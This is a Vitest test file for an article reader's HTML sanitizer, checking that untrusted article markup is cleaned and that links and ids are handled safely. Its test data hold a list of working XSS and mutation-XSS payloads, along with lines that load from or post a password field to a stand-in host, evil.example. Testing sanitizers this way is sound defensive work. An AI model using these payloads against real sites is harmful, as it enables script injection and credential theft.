// @vitest-environment jsdom
import { beforeEach, describe, expect, it } from 'vitest'
import { innerPath, sanitize, targetId } from '../../../src/reader/article/safe-html.ts'

/** The result as the page would hold it: in a document, so that whatever could run or load would. */
const inPage = (html: string): HTMLElement => {
  const place = document.createElement('div')
  place.innerHTML = sanitize(html)
  document.body.replaceChildren(place)
  return place
}

/** Whether anything in the tree could run script or leave the page. */
const dangers = (place: HTMLElement): string[] =>
  [...place.querySelectorAll('*')].flatMap((element) => [
    ...(/^(script|iframe|object|embed|svg|math|style|link|meta|base|template|noscript|form)$/i.test(
      element.localName,
    )
      ? [element.localName]
      : []),
    ...[...element.attributes]
      .filter(
        ({ name, value }) =>
          /^(on|style|srcdoc|xlink|formaction)/i.test(name) || /^\W*(java|vb)script:/i.test(value),
      )
      .map(({ name }) => `${element.localName}[${name}]`),
  ])

beforeEach(() => {
  Reflect.deleteProperty(globalThis, 'hit')
})

const ATTACKS: [fear: string, html: string][] = [
  ['a script', '<p>a</p><script>globalThis.hit=1</script>'],
  ['a script with an odd end', '<script/x>globalThis.hit=1</script\n>'],
  ['an error handler', '<img src=x onerror="globalThis.hit=1">'],
  ['a handler after a slash', '<img/src=x/onerror=globalThis.hit=1>'],
  ['a handler in capitals', '<IMG SRC=x OnErRoR=globalThis.hit=1>'],
  ['an open handler', '<details open ontoggle="globalThis.hit=1"><summary>x</summary></details>'],
  ['a focus handler', '<p tabindex=1 autofocus onfocus=globalThis.hit=1>x</p>'],
  ['a script link', '<a href="javascript:globalThis.hit=1">x</a>'],
  ['a script link with a tab', '<a href="java\tscript:globalThis.hit=1">x</a>'],
  ['a script link in entities', '<a href="&#106;avascript&colon;globalThis.hit=1">x</a>'],
  ['a script link after control characters', '<a href="\u0001\u0002javascript:globalThis.hit=1">x</a>'],
  ['a VBScript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a link to a data page', '<a href="data:text/html,<script>1</script>">x</a>'],
  ['a frame with a page of its own', '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>'],
  ['a frame of script', '<iframe src="javascript:parent.hit=1"></iframe>'],
  ['an object', '<object data="data:text/html,<script>1</script>"></object><embed src="x.swf">'],
  ['an SVG with script', '<svg><script>globalThis.hit=1</script></svg>'],
  ['an SVG with a handler', '<svg onload=globalThis.hit=1><circle r=1 /></svg>'],
  [
    'an SVG that animates a link',
    '<svg><a><animate attributeName=href values=javascript:hit=1 /><text>x</text></a></svg>',
  ],
  ['an SVG use of elsewhere', '<svg><use href="data:image/svg+xml,<svg id=x onload=1>#x"/></svg>'],
  ['MathML with a link', '<math><mi xlink:href="javascript:globalThis.hit=1">x</mi></math>'],
  ['mutation by noscript', '<noscript><p title="</noscript><img src=x onerror=globalThis.hit=1>">'],
  [
    'mutation by MathML and style',
    '<math><mtext><table><mglyph><style><img src=x onerror=globalThis.hit=1></style></mglyph></table></mtext></math>',
  ],
  [
    'mutation by forms in MathML',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=globalThis.hit=1>',
  ],
  ['mutation by an SVG title', '<svg></p><style><a id="</style><img src=1 onerror=globalThis.hit=1>">'],
  [
    'mutation by a select',
    '<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=globalThis.hit=1>">',
  ],
  ['mutation by a comment', '<!--><img src=x onerror=globalThis.hit=1>-->'],
  ['mutation by plaintext', '<plaintext><img src=x onerror=globalThis.hit=1>'],
  ['a style sheet', '<style>@import "//evil.example/x.css"</style><p>a</p>'],
  ['an inline style', '<p style="position:fixed;inset:0;background:url(//evil.example)">a</p>'],
  [
    'another base',
    '<base href="//evil.example/"><link rel=stylesheet href=x><meta http-equiv=refresh content="0;url=//evil.example">',
  ],
  [
    'a form',
    '<form action="//evil.example"><input name=password><button formaction="javascript:hit=1">x</button></form>',
  ],
  ['a template', '<template><script>globalThis.hit=1</script></template>'],
]

describe('what an article could try', () => {
  it.each(ATTACKS)('%s does nothing', (_, html) => {
    const place = inPage(html)
    expect(dangers(place)).toEqual([])
    for (const image of place.querySelectorAll('img')) image.dispatchEvent(new Event('error'))
    expect('hit' in globalThis).toBe(false)
  })

  it.each(ATTACKS)('%s does nothing on a second parse either', (_, html) => {
    const once = inPage(html).innerHTML
    expect(dangers(inPage(once))).toEqual([])
    expect(sanitize(once)).toBe(sanitize(String(sanitize(once))))
  })

  it('cannot shadow what scripts rely on', () => {
    const place = inPage(
      '<a id=location name=cookie>x</a><img name=getElementById><form id=root></form><p id=trustedTypes>a</p>',
    )
    expect(place.querySelectorAll('[id], [name]')).toHaveLength(0)
    expect(typeof document.getElementById).toBe('function')
    expect(document.getElementById('root')).toBeNull()
  })

  it.each([
    ['<h2 id="location">x</h2>', '<h2>x</h2>'],
    ['<h2 id="s-">x</h2>', '<h2>x</h2>'],
    ['<h2 id="s-a b" class="hljs-title">x</h2>', '<h2 id="s-a b">x</h2>'],
    ['<p id="s-x">x</p>', '<p>x</p>'],
    [
      '<code><span class="thumb-bar hljs-built_in x hljs-">x</span></code>',
      '<code><span class="hljs-built_in">x</span></code>',
    ],
    ['<code><span class="share">x</span></code>', '<code><span>x</span></code>'],
    ['<code class="hljs-keyword">x</code>', '<code>x</code>'],
  ])('has ids and classes of no other kind: %s', (html, expected) => {
    expect(inPage(html).innerHTML).toBe(expected)
  })

  it('cannot look like the page’s own controls', () => {
    const place = inPage(
      '<div class="thumb-bar" role=alert aria-live=assertive data-row=0 popover>登录<input><button>x</button></div>',
    )
    expect(place.innerHTML).toBe('<div>登录x</div>')
  })
})

describe('what an article is made of', () => {
  it.each([
    '<p>中标利率<strong>2.10%</strong>，与<em>此前</em>持平<br>　　次段</p>',
    '<h2>数读</h2><ul><li>一</li></ul><ol start="3"><li>三</li></ol><blockquote><p>引</p></blockquote>',
    '<table><thead><tr><th scope="col">年</th></tr></thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>',
    '<figure><figcaption>图注</figcaption></figure><pre><code>a &lt; b</code></pre><hr>',
    '<p>《&lt;蒙特利尔议定书&gt;基加利修正案》</p>',
    '<h2 id="s-中文">中文</h2><p><sup id="s-fnref:1"><a href="#fn:1">1</a></sup></p><ol><li id="s-fn:1">注</li></ol>',
    '<pre><code><span class="hljs-keyword">if</span> x</code></pre><dl><dt>词</dt><dd>义</dd></dl><del>删</del>',
  ])('passes unchanged: %s', (html) => {
    expect(String(sanitize(html))).toBe(html)
  })

  it('keeps a picture’s size and text, and loads it late and without telling from where', () => {
    const image = inPage(
      '<img src="https://dfscdn.dfcfw.com/a.jpg" width="800" height="555" alt="车间">',
    ).firstElementChild
    const attributes = Object.fromEntries(
      [...(image?.attributes ?? [])].map(({ name, value }) => [name, value]),
    )
    expect(attributes).toEqual({
      src: 'https://dfscdn.dfcfw.com/a.jpg',
      width: '800',
      height: '555',
      alt: '车间',
      loading: 'lazy',
      decoding: 'async',
      referrerpolicy: 'no-referrer',
    })
  })
})

describe('links', () => {
  it('out of the site open beside it and give nothing away', () => {
    const link = inPage('<a href="https://example.com/x" target="_self" rel="opener">x</a>').querySelector(
      'a',
    )
    expect(link?.target).toBe('_blank')
    expect(link?.rel).toBe('noopener noreferrer nofollow')
  })

  it('within the site stay in the page', () => {
    const link = inPage('<a href="/macro/2022/01/21/a.html" target="_blank">x</a>').querySelector('a')
    expect(link?.hasAttribute('target')).toBe(false)
  })

  it('are within the site only on its own origin', () => {
    expect(innerPath('/macro/a.html?x=1#y')).toBe('/macro/a.html?x=1#y')
    expect(innerPath(`${location.origin}/a.html`)).toBe('/a.html')
    expect(innerPath('//example.com/a.html')).toBeUndefined()
    expect(innerPath('https://example.com/')).toBeUndefined()
    expect(innerPath('mailto:a@example.com')).toBeUndefined()
    expect(innerPath('http://[')).toBeUndefined()
  })
})

describe('a fragment of an address', () => {
  it.each([
    ['', undefined],
    ['#', undefined],
    ['#fn:1', 's-fn:1'],
    ['#%E4%B8%AD%E6%96%87', 's-中文'],
    ['#100%', 's-100%'],
  ])('%j leads to the id %j', (fragment, id) => {
    expect(targetId(fragment)).toBe(id)
  })
})
